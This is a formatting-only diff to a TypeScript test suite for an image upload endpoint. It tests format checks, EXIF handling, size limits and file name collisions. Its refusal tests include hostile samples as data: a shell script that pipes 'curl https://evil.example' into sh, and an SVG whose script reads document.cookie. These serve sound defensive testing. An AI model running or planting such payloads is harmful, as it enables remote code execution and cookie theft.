@@ -16,7 +16,12 @@ async function photoWithGps(width = 1600, height = 1000): Promise<Buffer> {
     .jpeg({ quality: 90 })
     .withExif({
       IFD0: { Make: 'PhoneMaker', Model: 'Camera 12' },
-      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '31/1 46/1 36/1', GPSLongitudeRef: 'E', GPSLongitude: '35/1 13/1 48/1' },
+      IFD3: {
+        GPSLatitudeRef: 'N',
+        GPSLatitude: '31/1 46/1 36/1',
+        GPSLongitudeRef: 'E',
+        GPSLongitude: '35/1 13/1 48/1',
+      },
     })
     .toBuffer();
 }
@@ -62,10 +67,20 @@ describe.each(databaseKinds)('image uploads on %s', (kind) => {
     fs.rmSync(mediaRoot, { recursive: true, force: true });
   });
 
-  const upload = (caller: Caller | null, data: Uint8Array, name = 'photo.jpg', type = 'image/jpeg', headers: Record<string, string> = {}) => {
+  const upload = (
+    caller: Caller | null,
+    data: Uint8Array,
+    name = 'photo.jpg',
+    type = 'image/jpeg',
+    headers: Record<string, string> = {},
+  ) => {
     const form = new FormData();
     form.append('file', new File([new Uint8Array(data)], name, { type }));
-    return app.request('/post/file/upload', { method: 'POST', headers: { ...caller?.headers, ...headers }, body: form });
+    return app.request('/post/file/upload', {
+      method: 'POST',
+      headers: { ...caller?.headers, ...headers },
+      body: form,
+    });
   };
   const fileFor = (url: string) => path.join(mediaRoot, url.replace(/^\/media\//, ''));
 
@@ -95,7 +110,9 @@ describe.each(databaseKinds)('image uploads on %s', (kind) => {
   });
 
   it('accepts PNG (with transparency), WebP and AVIF, judged by content, not by name or type', async () => {
-    const base = sharp({ create: { width: 300, height: 400, channels: 4, background: { r: 0, g: 90, b: 200, alpha: 0.5 } } });
+    const base = sharp({
+      create: { width: 300, height: 400, channels: 4, background: { r: 0, g: 90, b: 200, alpha: 0.5 } },
+    });
     const samples: Array<[string, Buffer]> = [
       ['png', await base.clone().png().toBuffer()],
       ['webp', await base.clone().webp().toBuffer()],
@@ -111,13 +128,19 @@ describe.each(databaseKinds)('image uploads on %s', (kind) => {
   });
 
   it('refuses a script renamed to .jpg', async () => {
-    const res = await upload(admin, Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), 'holiday.jpg', 'image/jpeg');
+    const res = await upload(
+      admin,
+      Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'),
+      'holiday.jpg',
+      'image/jpeg',
+    );
     expect(res.status).toBe(415);
     expect((await res.json()).message).toBe(UPLOAD_MESSAGES.unsupported);
   });
 
   it('refuses an SVG', async () => {
-    const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>';
+    const svg =
+      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>';
     const res = await upload(admin, Buffer.from(svg), 'logo.svg', 'image/svg+xml');
     expect(res.status).toBe(415);
     expect((await res.json()).message).toBe(UPLOAD_MESSAGES.unsupported);
@@ -132,7 +155,11 @@ describe.each(databaseKinds)('image uploads on %s', (kind) => {
 
     const declared = await app.request('/post/file/upload', {
       method: 'POST',
-      headers: { ...admin.headers, 'content-type': 'multipart/form-data; boundary=x', 'content-length': String(20 * 1024 * 1024) },
+      headers: {
+        ...admin.headers,
+        'content-type': 'multipart/form-data; boundary=x',
+        'content-length': String(20 * 1024 * 1024),
+      },
       body: '--x--',
     });
     expect(declared.status).toBe(413);
@@ -161,7 +188,9 @@ describe.each(databaseKinds)('image uploads on %s', (kind) => {
 
   it('never lets two uploads with the same file name overwrite each other', async () => {
     const red = await photoWithGps(500, 500);
-    const blue = await sharp({ create: { width: 500, height: 500, channels: 3, background: { r: 20, g: 20, b: 220 } } }).jpeg().toBuffer();
+    const blue = await sharp({ create: { width: 500, height: 500, channels: 3, background: { r: 20, g: 20, b: 220 } } })
+      .jpeg()
+      .toBuffer();
     const first = (await (await upload(admin, red, 'IMG_0001.jpg')).json()).url;
     const second = (await (await upload(admin, blue, 'IMG_0001.jpg')).json()).url;
     expect(first).not.toBe(second);
